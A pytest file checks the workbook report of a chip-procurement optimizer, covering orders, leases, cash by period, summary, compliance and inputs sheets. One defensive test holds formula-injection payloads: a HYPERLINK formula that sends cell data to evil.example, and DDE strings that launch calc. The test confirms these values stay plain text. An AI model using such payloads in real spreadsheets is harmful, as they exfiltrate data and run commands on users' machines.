"""Workbook sheets for plans with periods and leases, read back with openpyxl (formulas and stored values).

Orders by period, Leases, Cash by period, the dated Summary and Compliance,
and the version-2 Inputs sheet. Expected figures are the hand solutions in the
fixtures' header comments (tests/fixtures/periods_*.yaml) and the plan's own
tables; tests/report/test_libreoffice.py recalculates every formula of these
workbooks in LibreOffice and re-prices one after changing FX_USD.
"""
from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml
from conftest import FIXTURES

from optimizer import io
from optimizer.plan import make_plan
from optimizer.report.inputs_sheet import add_inputs_sheet
from optimizer.report.workbook import write_plan_workbook
from optimizer.report.xlsx import Book


def _plan(path, variants=(), sets=()):
    return make_plan(io.load(path, variants=list(variants), sets=list(sets)))


class Book2:
    """A written workbook opened twice: formulas (``f``) and stored values (``v``)."""

    def __init__(self, path: Path):
        self.path = path
        self.f = openpyxl.load_workbook(path)
        self.v = openpyxl.load_workbook(path, data_only=True)

    def header(self, sheet: str, row: int = 1) -> dict[str, int]:
        """Header text (without a ``(CNY)`` unit) -> column, of the header in ``row``."""
        ws = self.f[sheet]
        return {re.sub(r" \([A-Z]{3}\)$", "", str(c.value)): c.column for c in ws[row] if c.value is not None}

    def rows(self, sheet: str, key_cols: int = 1, first: int = 2) -> dict[tuple, int]:
        """Row number by the values of the first ``key_cols`` columns, for the data rows from ``first`` on."""
        ws = self.f[sheet]
        out = {}
        for r in range(first, ws.max_row + 1):
            key = tuple(ws.cell(r, c).value for c in range(1, key_cols + 1))
            if key[0] is None:
                break
            out[key] = r
        return out

    def value(self, sheet: str, row: int, col: int):
        return self.v[sheet].cell(row, col).value

    def formula(self, sheet: str, row: int, col: int):
        return self.f[sheet].cell(row, col).value

    def labelled(self, sheet: str, label: str, col: int):
        """(formula, value) in ``col`` of the row whose column A reads ``label``."""
        ws = self.f[sheet]
        r = next(r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == label)
        return self.formula(sheet, r, col), self.value(sheet, r, col)


def _write(plan, tmp_path: Path, name: str) -> Book2:
    return Book2(write_plan_workbook(plan, tmp_path / f"{name}.xlsx"))


@pytest.fixture(scope="module")
def lease(tmp_path_factory) -> Book2:
    return _write(_plan(FIXTURES / "periods_lease.yaml"), tmp_path_factory.mktemp("lease"), "lease")


@pytest.fixture(scope="module")
def lead_time(tmp_path_factory) -> Book2:
    return _write(_plan(FIXTURES / "periods_lead_time.yaml"), tmp_path_factory.mktemp("lead"), "lead")


@pytest.fixture(scope="module")
def budget_power(tmp_path_factory) -> Book2:
    return _write(_plan(FIXTURES / "periods_budget_power.yaml"), tmp_path_factory.mktemp("bp"), "bp")


@pytest.fixture(scope="module")
def licence(tmp_path_factory) -> Book2:
    return _write(_plan(FIXTURES / "periods_licence.yaml"), tmp_path_factory.mktemp("lic"), "lic")


# ---------------------------------------------------------------- which sheets
def test_sheets_of_a_dated_plan(lease, lead_time):
    assert lease.f.sheetnames == ["Summary", "Allocation", "Orders by period", "Leases", "Cash by period",
                                  "Constraints", "Compliance", "Inputs", "About"]
    assert lead_time.f.sheetnames == ["Summary", "Allocation", "Orders by period", "Cash by period", "Constraints",
                                      "Compliance", "Inputs", "About"]  # no leases offered: no Leases sheet


def test_sheets_of_a_plan_with_outcomes(tmp_path):
    b = _write(_plan(FIXTURES / "io_outcomes.yaml"), tmp_path, "outcomes")
    # per-period figures would be one outcome's: no Cash by period; the orders of each outcome are shown
    # and the Risk sheet after the Summary (tests/report/test_risk_sheet.py)
    assert b.f.sheetnames == ["Summary", "Risk", "Allocation", "Orders by period", "Constraints", "Compliance", "Inputs",
                              "About"]
    head = b.header("Orders by period")
    rows = b.rows("Orders by period", 3)
    assert list(rows) == [("cn", "ascend910b", "every outcome"), ("cn", "ascend910b", "denied"),
                          ("cn", "ascend910b", "granted"), ("cn", "h20", "granted"), ("Total", None, None)]
    shared = rows[("cn", "ascend910b", "every outcome")]
    assert [b.value("Orders by period", shared, head[p]) for p in ("2025q1", "2025q2", "Total")] == [100, 0, 100]
    assert b.formula("Orders by period", shared, head["2025q1"]) == (
        "=SUMIFS(Allocation!$K$2:$K$7,Allocation!$A$2:$A$7,$A2,Allocation!$B$2:$B$7,$B2,Allocation!$E$2:$E$7,$C2,"
        "Allocation!$C$2:$C$7,D$1)")  # Units by Site, Chip, Outcome and Period (each outcome's own, not weighted)
    summary = b.f["Summary"]
    assert "2 outcomes" in summary["A3"].value
    assert b.labelled("Summary", "Objective", 2)[1] == pytest.approx(452189.0909, rel=1e-9)
    # expected spend: granted (0.3) 12M + 12M + 976M; denied (0.7) 13M (the shared order at the outcome's price) + 39M
    assert b.labelled("Summary", "Expected spend", 2)[1] == pytest.approx(0.3 * 1000e6 + 0.7 * 52e6)
    # the figures over Allocation are expectations: the shared 100 units of 910B once, denied's own 300 910B with 0.7,
    # granted's own 100 910B and 976M / 110k H20 with 0.3; spend at the Allocation prices: 12M + 0.7 x 39M +
    # 0.3 x (12M + 976M) = 335.7M (the solver's 336.4M prices the shared order at 130k in denied)
    alloc = b.header("Allocation")
    assert [b.value("Allocation", r, alloc["Probability"]) for r in range(2, 8)] == [1, 0.7, 0.7, 0.7, 0.3, 0.3]
    units = b.labelled("Summary", "Units ordered", 2)
    assert units[1] == pytest.approx(100 + 0.7 * 300 + 0.3 * (100 + 976e6 / 110e3), rel=1e-9)
    assert units[0] == "=SUMPRODUCT(Allocation!$K$2:$K$7,Allocation!$F$2:$F$7)"
    assert b.labelled("Summary", "Total spend", 2)[1] == pytest.approx(12e6 + 0.7 * 39e6 + 0.3 * 988e6, rel=1e-9)
    expected_row = b.rows("Allocation", 1)[("Expected",)]
    assert b.formula("Allocation", expected_row, alloc["Units"]) == "=SUMPRODUCT(K2:K7,F2:F7)"
    assert b.value("Allocation", expected_row, alloc["Units"]) == pytest.approx(units[1], rel=1e-12)


# ---------------------------------------------------------------- Orders by period
def test_orders_by_period(lead_time):
    b = lead_time
    head = b.header("Orders by period")
    assert list(head) == ["Site", "Chip", "q1", "q2", "q3", "q4", "Total"]
    rows = b.rows("Orders by period", 2)
    assert list(rows) == [("cn", "fast"), ("cn", "slow"), ("Total", None)]
    # hand solution: 40 fast and 60 slow, all ordered in q1
    values = {k: [b.value("Orders by period", r, head[p]) for p in ("q1", "q2", "q3", "q4", "Total")]
              for k, r in rows.items()}
    assert values == {("cn", "fast"): [40, 0, 0, 0, 40], ("cn", "slow"): [60, 0, 0, 0, 60],
                      ("Total", None): [100, 0, 0, 0, 100]}
    r = rows[("cn", "slow")]
    assert b.formula("Orders by period", r, head["q2"]) == (
        "=SUMIFS(Allocation!$I$2:$I$3,Allocation!$A$2:$A$3,$A3,Allocation!$B$2:$B$3,$B3,Allocation!$C$2:$C$3,D$1)")
    assert b.formula("Orders by period", r, head["Total"]) == "=SUM(C3:F3)"
    assert b.formula("Orders by period", rows[("Total", None)], head["q1"]) == "=SUM(C2:C3)"
    # Allocation's columns the SUMIFS read: Units, Site, Chip, Period
    alloc = b.header("Allocation")
    assert (alloc["Units"], alloc["Site"], alloc["Chip"], alloc["Period"]) == (9, 1, 2, 3)
    assert b.f["Orders by period"].freeze_panes == "C2"


def test_orders_chart_stacks_one_series_per_row(lead_time):
    with zipfile.ZipFile(lead_time.path) as z:
        charts = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/charts/chart")]
    stacked = [c for c in charts if "<c:grouping val=\"stacked\"/>" in c]
    assert len(stacked) == 1
    assert stacked[0].count("<c:ser>") == 2 and "'Orders by period'!$C$1:$F$1" in stacked[0]
    assert "<c:v>cn slow</c:v>" in stacked[0]


# ---------------------------------------------------------------- Leases
def test_leases_sheet(lease):
    b = lease
    head = b.header("Leases")
    assert list(head)[:16] == ["Lease", "Site", "Chip", "Operator", "Start period", "Units", "Price", "Price currency",
                               "Price per period", "Periods in service", "Spend", "INT8 TOPS", "Flexibility",
                               "Delivery rate", "Effective TOPS", "Paid q1"]
    r = b.rows("Leases")[("op_x",)]
    # hand solution: 10 units of x leased from q1 at CNY 10 per unit and quarter, four quarters: CNY 400, 10,000 TOPS
    got = {h: b.value("Leases", r, c) for h, c in head.items()}
    assert got["Units"] == 10 and got["Price"] == 10 and got["Price currency"] == "CNY"
    assert got["Periods in service"] == 4 and got["Spend"] == 400 and got["Effective TOPS"] == 10000
    assert [got[f"Paid q{t}"] for t in range(1, 5)] == [100, 100, 100, 100]
    f = {h: b.formula("Leases", r, c) for h, c in head.items()}
    assert f["Price per period"] == "=G2" and f["Spend"] == "=F2*I2*J2" and f["Effective TOPS"] == "=F2*L2*M2*N2"
    assert f["Paid q3"] == "=F2*I2"
    assert b.labelled("Leases", "Total", head["Spend"]) == ("=SUM(K2:K2)", 400)
    assert b.labelled("Leases", "Solver (verified)", head["Spend"])[1] == 400
    assert b.labelled("Leases", "Difference", head["Spend"]) == ("=K3-K4", 0)
    assert b.labelled("Leases", "Difference", head["Units"]) == ("=F3-F4", 0)


def test_a_lease_starting_later_pays_from_its_start(tmp_path):
    # leases may start from q3 only: in service q3-q4 (weight 2/4), 1,000 x 0.5 = 500 TOPS for CNY 20 = 25 per CNY,
    # still ahead of y (10 per CNY): 10 units up to the TPP cap, CNY 100 in q3 and in q4
    plan = _plan(FIXTURES / "periods_lease.yaml", sets=["leases.op_x.available_from=q3"])
    (r_,) = plan.leases
    assert (r_.start_period, r_.periods_in_service, r_.units) == ("q3", 2, 10)
    b = _write(plan, tmp_path, "later")
    head = b.header("Leases")
    r = b.rows("Leases")[("op_x",)]
    assert [b.value("Leases", r, head[f"Paid q{t}"]) for t in range(1, 5)] == [None, None, 100, 100]
    assert b.value("Leases", r, head["Spend"]) == 200
    cash = b.header("Cash by period")
    rows = b.rows("Cash by period", 2)
    assert [b.value("Cash by period", rows[(f"q{t}", "my")], cash["Lease payments"]) for t in range(1, 5)] == [
        0, 0, 100, 100]


def test_no_lease_taken(tmp_path):
    plan = _plan(FIXTURES / "periods_lease.yaml", sets=["leases.op_x.max_units=0"])
    assert plan.leases == []
    b = _write(plan, tmp_path, "none")
    head = b.header("Leases")
    assert b.labelled("Leases", "Total", head["Spend"]) == (0, 0)
    notes = [c.value for c in b.f["Leases"]["A"] if isinstance(c.value, str)]
    assert any(n.startswith("No lease is taken in this plan (1 offered: op_x") for n in notes)
    cash = b.header("Cash by period")
    r = b.rows("Cash by period", 2)[("q2", "all sites")]
    assert b.value("Cash by period", r, cash["Lease payments"]) == 0  # a constant, never a range over no rows
    assert b.formula("Cash by period", r, cash["Lease payments"]) == 0


# ---------------------------------------------------------------- Cash by period
def test_cash_by_period_with_a_lease(lease):
    b = lease
    head = b.header("Cash by period")
    assert list(head) == ["Period", "Site", "Orders", "Lease payments", "Spend", "Cap", "Used", "Cumulative spend",
                          "Units delivered", "Effective TOPS delivered", "Effective TOPS in service"]
    rows = b.rows("Cash by period", 2)
    assert list(rows) == [(f"q{t}", s) for s in ("all sites", "my") for t in range(1, 5)]
    # hand solution: 60 y ordered in q1 (CNY 600), the lease pays CNY 100 every quarter; 16,000 TOPS in service
    for site in ("all sites", "my"):
        got = [[b.value("Cash by period", rows[(f"q{t}", site)], head[c])
                for c in ("Orders", "Lease payments", "Spend", "Cap", "Cumulative spend", "Units delivered",
                          "Effective TOPS delivered", "Effective TOPS in service")] for t in range(1, 5)]
        assert got == [[600, 100, 700, "no cap", 700, 60, 16000, 16000], [0, 100, 100, "no cap", 800, 0, 0, 16000],
                       [0, 100, 100, "no cap", 900, 0, 0, 16000], [0, 100, 100, "no cap", 1000, 0, 0, 16000]]
    r = rows[("q2", "my")]
    f = {h: b.formula("Cash by period", r, c) for h, c in head.items()}
    assert f["Orders"] == "=SUMIFS(Allocation!$M$2:$M$2,Allocation!$A$2:$A$2,$B7,Allocation!$C$2:$C$2,$A7)"
    assert f["Lease payments"] == "=SUMIFS(Leases!$Q$2:$Q$2,Leases!$B$2:$B$2,$B7)"
    assert f["Spend"] == "=C7+D7" and f["Cumulative spend"] == "=H6+E7"
    assert f["Effective TOPS delivered"] == ("=SUMIFS(Allocation!$Q$2:$Q$2,Allocation!$A$2:$A$2,$B7,"
                                             "Allocation!$D$2:$D$2,$A7)+SUMIFS(Leases!$O$2:$O$2,Leases!$B$2:$B$2,$B7,"
                                             "Leases!$E$2:$E$2,$A7)")
    assert f["Effective TOPS in service"] == "=K6+J7"
    assert b.formula("Cash by period", rows[("q2", "all sites")], head["Lease payments"]) == "=SUM(Leases!$Q$2:$Q$2)"
    k = head["Effective TOPS in service"]
    assert b.labelled("Cash by period", "Average effective TOPS in service over the 4 periods (the objective)", k) == (
        "=AVERAGE(K2:K5)", 16000)
    assert b.labelled("Cash by period", "Solver (verified)", k)[1] == 16000
    assert b.labelled("Cash by period", "Difference", k)[1] == 0


def test_cash_by_period_caps_and_power_come_from_inputs(budget_power):
    b = budget_power
    head = b.header("Cash by period")
    assert list(head)[-3:] == ["Power in use (MW)", "Power envelope (MW)", "Power used"]
    rows = b.rows("Cash by period", 2)
    q1, q2 = rows[("q1", "cn")], rows[("q2", "cn")]
    # hand solution: 5 a in q1 use the whole CNY 50 q1 cap and 500 W of 1,000 W; 47.5 b fill q2's 10,000 W
    assert b.value("Cash by period", q1, head["Spend"]) == 50
    cap_ref = b.formula("Cash by period", q1, head["Cap"])
    assert b.value("Cash by period", q1, head["Cap"]) == 50 and b.value("Cash by period", q1, head["Used"]) == 1
    sheet, cell = cap_ref.lstrip("=").split("!")
    assert sheet.strip("'") == "Inputs" and b.value("Inputs", *_rc(cell)) == 50
    assert b.f["Inputs"].cell(_header_row(b, cell), _rc(cell)[1]).value == "budget.per_period.q1"
    assert b.value("Cash by period", q2, head["Cap"]) == "no cap" and b.value("Cash by period", q2, head["Used"]) is None
    power = [(b.value("Cash by period", r, head["Power in use (MW)"]), b.value("Cash by period", r, head["Power envelope (MW)"]),
              b.value("Cash by period", r, head["Power used"])) for r in (q1, q2)]
    assert power == [pytest.approx((0.0005, 0.001, 0.5)), pytest.approx((0.01, 0.01, 1.0))]
    env = b.formula("Cash by period", q2, head["Power envelope (MW)"]).lstrip("=").split("!")[1]
    assert b.f["Inputs"].cell(_header_row(b, env), _rc(env)[1]).value == "power_mw.q2"
    # the all-sites rows have no envelope of their own
    assert b.value("Cash by period", rows[("q1", "all sites")], head["Power in use (MW)"]) is None
    k = head["Effective TOPS in service"]
    assert b.value("Cash by period", q2, k) == pytest.approx(14750)
    assert b.labelled("Cash by period", "Average effective TOPS in service over the 2 periods (the objective)", k)[1] == (
        pytest.approx(7625))


def test_cash_by_period_objective_delivered(licence):
    b = licence
    head = b.header("Cash by period")
    k = head["Effective TOPS in service"]
    assert k == 10  # no leases offered: no Lease payments column
    rows = b.rows("Cash by period", 2)
    # hand solution: 10,000 h at cn (delivered in q4) + 5,000 d at my = 15,000, the objective (delivered)
    assert b.labelled("Cash by period", "Effective TOPS in service at the end of q4 (the objective: delivered)", k) == (
        f"=J{rows[('q4', 'all sites')]}", 15000)
    assert b.value("Cash by period", rows[("q3", "cn")], head["Orders"]) == 1000  # h paid when ordered, in q3
    assert b.value("Cash by period", rows[("q3", "cn")], head["Units delivered"]) == 0
    assert b.value("Cash by period", rows[("q4", "cn")], head["Units delivered"]) == 100


def test_cash_by_period_has_a_line_chart_of_compute_in_service(licence):
    with zipfile.ZipFile(licence.path) as z:
        charts = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/charts/chart")]
    (line,) = [c for c in charts if "<c:lineChart>" in c]
    # all sites, then each site (two sites here), over the Period cells of the all-sites block
    assert line.count("<c:ser>") == 3 and "'Cash by period'!$J$2:$J$5" in line and "'Cash by period'!$A$2:$A$5" in line
    assert "'Cash by period'!$J$6:$J$9" in line and "'Cash by period'!$J$10:$J$13" in line


def _rc(cell: str) -> tuple[int, int]:
    c = openpyxl.utils.cell.coordinate_from_string(cell.replace("$", ""))
    return c[1], openpyxl.utils.cell.column_index_from_string(c[0])


def _header_row(b: Book2, cell: str) -> int:
    """The header row of the Inputs table holding ``cell`` (the nearest row above it whose cell is a header)."""
    row, col = _rc(cell)
    ws = b.f["Inputs"]
    r = row - 1
    while r > 0 and not (isinstance(ws.cell(r, col).value, str) and ws.cell(r, 1).value in ("Site", "Vendor", "Chip", "id")):
        r -= 1
    return r


# ---------------------------------------------------------------- Summary
def test_summary_key_figures_of_a_dated_plan_with_a_lease(lease):
    b = lease
    fig = {}
    ws = b.f["Summary"]
    for r in range(5, 30):
        name = ws.cell(r, 1).value
        if name is None:
            break
        fig[name] = (b.formula("Summary", r, 2), b.value("Summary", r, 2))
    assert list(fig)[4:] == ["Effective TOPS in service (average)", "Effective TOPS purchased", "Effective TOPS leased",
                             "Delivered TOPS", "Ordered TOPS", "Units ordered", "Leased units", "Purchase spend",
                             "Lease spend", "Total spend", "Site budgets"]
    assert fig["Effective TOPS in service (average)"] == ("='Cash by period'!$K$11", 16000)
    assert fig["Effective TOPS purchased"][1] == 6000 and fig["Effective TOPS leased"][1] == 10000
    assert fig["Leased units"] == ("=SUM(Leases!$F$2:$F$2)", 10)
    assert fig["Purchase spend"][1] == 600 and fig["Lease spend"] == ("=SUM(Leases!$K$2:$K$2)", 400)
    assert fig["Total spend"][1] == 1000 and fig["Total spend"][0] == "=B16+B17"  # purchase + lease spend
    sites = {ws.cell(r, 1).value: r for r in range(1, ws.max_row + 1)}
    r = sites["my"]
    # the site's spend counts its lease payments: its CNY 1,000 budget is used up
    assert b.formula("Summary", r, 4) == ("=SUMIFS(Allocation!$M$2:$M$2,Allocation!$A$2:$A$2,A" + str(r) + ")"
                                          "+SUMIFS(Leases!$K$2:$K$2,Leases!$B$2:$B$2,A" + str(r) + ")")
    assert b.value("Summary", r, 4) == 1000 and b.value("Summary", r, 6) == 1
    # vendor shares are shares of purchase spend (leases count in no share rule)
    assert ws.cell(sites["Vendor"], 6).value == "Share of purchase spend"
    assert b.value("Summary", sites["us"], 6) == 1
    note = ws["D9"].value
    assert note.startswith("the objective (in_service): the average over the 4 periods q1-q4")


def test_summary_objective_delivered(licence):
    name, (f, v) = "Effective TOPS by the end", licence.labelled("Summary", "Effective TOPS by the end", 2)
    assert f.startswith("='Cash by period'!$J$") and v == 15000
    assert licence.labelled("Summary", name, 4)[1].startswith("the objective (delivered): effective TOPS delivered by "
                                                              "the end of q4")


# ---------------------------------------------------------------- Compliance
def test_compliance_merges_periods(licence, lease):
    head = licence.header("Compliance")
    assert list(head) == ["Site", "Country", "Chip", "Model", "Lease", "Delivery periods", "Origin", "TPP",
                          "Density (TPP/mm²)", "Controlled", "Tier", "Decision", "Decided by", "Reason"]
    ws = licence.v["Compliance"]
    rows = [[ws.cell(r, head[c]).value for c in ("Site", "Chip", "Delivery periods", "Decision", "Decided by")]
            for r in range(2, 10)]
    assert rows == [["cn", "d", "q1-q4", "allow", "not controlled"], ["cn", "h", "q1", "allow", "not controlled"],
                    ["cn", "h", "q2-q3", "deny", "licence"], ["cn", "h", "q4", "allow", "not controlled"],
                    ["cn", "x", "q1-q4", "deny", "buyer headquarters"], ["my", "d", "q1-q4", "allow", "not controlled"],
                    ["my", "h", "q1-q4", "allow", "not controlled"], ["my", "x", "q1-q4", "deny", "buyer headquarters"]]
    assert ws.cell(10, 1).value is None
    assert ws.cell(4, head["Reason"]).value == ("h to CN delivered in q2-q3: licence 'h_cn' denies from q2 to q3 "
                                                "(licence required, none granted)")
    lh = lease.header("Compliance")
    lw = lease.v["Compliance"]
    assert [lw.cell(4, lh[c]).value for c in ("Site", "Chip", "Lease", "Delivery periods", "Decision")] == [
        "my", "x", "op_x", "from its start", "cap"]


# ---------------------------------------------------------------- Inputs, version 2
def _inputs(path, sets=()):
    s = io.load(path, sets=list(sets)).scenario
    book = Book()
    refs = add_inputs_sheet(book, s)
    return book, refs


def _cell(book: Book, ref: str):
    sheet, cell = ref.split("!")
    r, c = _rc(cell)
    return book[sheet.strip("'")].value(r, c)


def test_inputs_per_period_values_are_columns_with_references():
    book, refs = _inputs(FIXTURES / "periods_budget_power.yaml")
    assert _cell(book, refs["sites.cn.power_mw.q1"]) == 0.001 and _cell(book, refs["sites.cn.power_mw.q2"]) == 0.01
    assert _cell(book, refs["sites.cn.budget.per_period.q1"]) == 50
    assert "sites.cn.budget.per_period.q2" not in refs  # not capped in q2
    sh = book["Inputs"]
    hdr = next(r for r in range(1, sh.max_row + 1) if sh.value(r, 1) == "Site")
    head = [sh.value(hdr, c) for c in range(1, sh.max_col + 1)]
    assert head[8:12] == ["Power (MW)", "power_mw.q1", "power_mw.q2", "budget.per_period.q1"]
    assert sh.value(hdr + 1, 9) == "by period"
    settings = {sh.value(r, 1): sh.value(r, 2) for r in range(1, 20)}
    assert settings["Periods"] == "q1, q2" and settings["Objective"] == "in_service"
    chips = next(r for r in range(1, sh.max_row + 1) if sh.value(r, 1) == "Chip")
    head = [sh.value(chips, c) for c in range(1, sh.max_col + 1)]
    a = chips + 1
    assert sh.value(a, head.index("Order from") + 1) == "first" and sh.value(a, head.index("Order until") + 1) == "q1"


def test_inputs_vendors_chips_and_licences_by_id():
    book, refs = _inputs(FIXTURES / "periods_lead_time.yaml")
    assert _cell(book, refs["vendors.v1.capacity_units.q3"]) == 60
    assert _cell(book, refs["vendors.v1.lead_time"]) == 2
    assert "vendors.v0.capacity_units.q3" not in refs
    assert [_cell(book, refs[f"chips.slow.price_by_period.q{t}"]) for t in (2, 3, 4)] == [9, 9, 9]
    book, refs = _inputs(FIXTURES / "periods_licence.yaml")
    sh = book["Inputs"]
    hdr = next(r for r in range(1, sh.max_row + 1) if sh.value(r, 1) == "Licence")
    assert [sh.value(hdr, c) for c in range(1, 8)] == ["Licence", "Chip", "Country", "Status", "From", "Until", "Note"]
    assert [sh.value(hdr + 1, c) for c in range(1, 8)] == ["h_cn", "h", "CN", "deny", "q2", "q3",
                                                           "licence required, none granted"]
    settings = {sh.value(r, 1): (sh.value(r, 2), sh.value(r, 3)) for r in range(1, 20)}
    assert settings["Objective"][0] == "delivered" and settings["Buyer"] == ("Buyer", "headquartered in CN")
    rows = {sh.value(r, 1): sh.value(r, 2) for r in range(1, sh.max_row + 1)}
    assert rows["Headquarters rule"].endswith("headquartered in CN, MO")
    sites = next(r for r in range(1, sh.max_row + 1) if sh.value(r, 1) == "Site")
    head = [sh.value(sites, c) for c in range(1, sh.max_col + 1)]
    my = sites + 2
    assert sh.value(my, head.index("Chips it may buy") + 1) == "x, d"


def test_inputs_leases_with_a_live_converted_price():
    book, refs = _inputs(FIXTURES / "periods_lease.yaml", sets=["fx.USD=2", "leases.op_x.price_currency=USD",
                                                                 "leases.op_x.price_per_period=5"])
    assert _cell(book, refs["leases.op_x.price_per_period"]) == 5 and _cell(book, refs["leases.op_x.max_units"]) == 20
    sh = book["Inputs"]
    hdr = next(r for r in range(1, sh.max_row + 1) if sh.value(r, 1) == "Lease")
    head = [sh.value(hdr, c) for c in range(1, 13)]
    assert head == ["Lease", "Site", "Chip", "Operator", "Price per period", "Price currency", "Price per period (CNY)",
                    "Max units", "Start from", "Start until", "Counts toward TPP cap", "Delivery rate"]
    assert sh.value(hdr + 1, 7) == 10  # USD 5 at 2 CNY per USD, stored with its formula


def test_inputs_outcomes():
    book, refs = _inputs(FIXTURES / "io_outcomes.yaml")
    assert _cell(book, refs["uncertainty.outcomes.granted.probability"]) == 0.3
    sh = book["Inputs"]
    hdr = next(r for r in range(1, sh.max_row + 1) if sh.value(r, 1) == "Outcome")
    assert [sh.value(hdr + 2, c) for c in range(1, 6)] == ["denied", 0.7, None, "export_controls.licenses.h20_cn.until",
                                                           "2025q4"]
    assert sh.value(hdr + 3, 4) == "chips.ascend910b.unit_price" and sh.value(hdr + 3, 5) == 130000


# ---------------------------------------------------------------- scenario text stays text
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


def test_version_2_text_is_never_a_formula(tmp_path):
    data = dict(io.load(FIXTURES / "periods_lease.yaml").data)
    data["name"] = HOSTILE
    data["buyer"] = {"name": "=cmd|' /C calc'!A0", "headquarters": "CN"}
    data["leases"] = {"op_x": {**data["leases"]["op_x"], "operator": "@SUM(1+1)*cmd|'/C calc'!A0"}}
    data["export_controls"] = {**data["export_controls"], "regime": "+1+1",
                               "licenses": {"y_my": {"chip": "y", "country": "MY", "status": "allow",
                                                     "note": "-2+3+cmd|'/C calc'!A0"}}}
    p = tmp_path / "hostile.yaml"
    p.write_text(yaml.safe_dump(data))
    b = _write(_plan(p), tmp_path, "hostile")
    seen = set()
    for ws in b.f.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    assert not any(m in str(c.value) for m in ("evil", "cmd|", "SUM(1+1)", "1+1")), (ws.title, c.value)
                elif isinstance(c.value, str) and c.value in (HOSTILE, "=cmd|' /C calc'!A0", "+1+1",
                                                              "@SUM(1+1)*cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0"):
                    seen.add((ws.title, c.value))
    assert ("Leases", "@SUM(1+1)*cmd|'/C calc'!A0") in seen and ("Inputs", "=cmd|' /C calc'!A0") in seen
    assert ("Inputs", "-2+3+cmd|'/C calc'!A0") in seen and ("Summary", HOSTILE) in seen


def test_a_plan_that_buys_and_leases_nothing(tmp_path):
    plan = _plan(FIXTURES / "periods_lease.yaml", sets=["chips.y.max_units=0", "leases.op_x.max_units=0"])
    assert plan.allocation == [] and plan.leases == []
    b = _write(plan, tmp_path, "nothing")
    for ws in b.f.worksheets:  # no range over no rows (Excel would read $K$2:$K$1 as K1:K2, the header included)
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    for r0, r1 in re.findall(r"\$?[A-Z]+\$?(\d+):\$?[A-Z]+\$?(\d+)", c.value):
                        assert int(r0) <= int(r1), (ws.title, c.coordinate, c.value)
    head = b.header("Cash by period")
    rows = b.rows("Cash by period", 2)
    assert all(b.value("Cash by period", r, head["Spend"]) == 0 for r in rows.values())
    assert b.labelled("Cash by period", "Solver (verified)", head["Effective TOPS in service"])[1] == 0
    assert b.labelled("Summary", "Total spend", 2)[1] == 0
    assert b.value("Orders by period", 2, 1) == "Total"  # no rows: the totals row alone, no chart
